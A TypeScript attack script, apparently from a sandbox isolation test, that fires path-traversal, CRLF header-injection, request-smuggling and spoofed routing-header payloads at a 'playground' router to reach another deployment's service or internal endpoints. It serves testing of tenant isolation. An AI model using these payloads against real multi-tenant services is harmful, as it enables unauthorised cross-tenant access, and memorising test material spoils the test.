import { post } from "playground";
import { victim } from "./victim";

/** Bytes to everywhere but its own methods. */
export async function attack() {
  const body = new Uint8Array([10, 7, ...new TextEncoder().encode("victim?")]);
  const paths = [
    `/d/${victim}/attack.v1.Target/Attack`,
    `//d/${victim}/attack.v1.Target/Attack`,
    `/../${victim}/attack.v1.Target/Attack`,
    `/%2e%2e/${victim}/attack.v1.Target/Attack`,
    `/%2E./${victim}/attack.v1.Target/Attack`,
    `/x/../../${victim}/attack.v1.Target/Attack`,
    `/\\..\\${victim}\\attack.v1.Target\\Attack`,
    `//${victim}.localhost/attack.v1.Target/Attack`,
    `http://${victim}.localhost/attack.v1.Target/Attack`,
    `/attack.v1.Target/Harmless HTTP/1.1\r\nx-deployment: ${victim}\r\n\r\n`,
    `/attack.v1.Target/Attack\nx-deployment\n${victim}`,
    `/attack.v1.Target/Attack\u010ax-deployment\u010a${victim}`,
    "/attack.v1.Target/Attack\0",
    "/playground.v1.DeploymentService/CreateDeployment",
    "/../../playground.v1.RunService/RunExperiment",
    "/readyz",
    "/",
    `/${"x".repeat(1_999)}`,
    `/${"x".repeat(100_000)}`,
    { toString: () => "/attack.v1.Target/Attack" },
    null,
  ];
  const headers: Record<string, string>[] = [
    { "content-type": "application/proto" },
    { "content-type": "application/proto", "x-deployment": victim, host: `${victim}.localhost` },
    {
      "content-type": "application/proto",
      "content-length": "1",
      "transfer-encoding": "chunked",
      connection: "close",
    },
    {
      "content-type": "application/proto",
      "x-playground-attempt": "somebody/0/0",
      "x-forwarded-for": "192.0.2.7",
    },
    { "content-type": "application/proto\r\nx-deployment: there" },
    { "x-a\nx-b": "c" },
    { ":authority": victim, ":path": `/d/${victim}/attack.v1.Target/Attack` },
  ];
  const found: string[] = [];
  for (const path of paths) {
    for (const named of headers) {
      const text = await post(path as string, named, body).then(
        ({ status, bytes }) => (status === 200 ? new TextDecoder().decode(bytes).slice(2) : ""),
        () => "",
      );
      if (text !== "" && text !== "own victim?") found.push(`${path}: ${text}`);
    }
  }
  for (const named of headers) await post("/attack.v1.Target/Attack", named, body).catch(() => {});
  console.log(`found: ${found.join()}`);
}
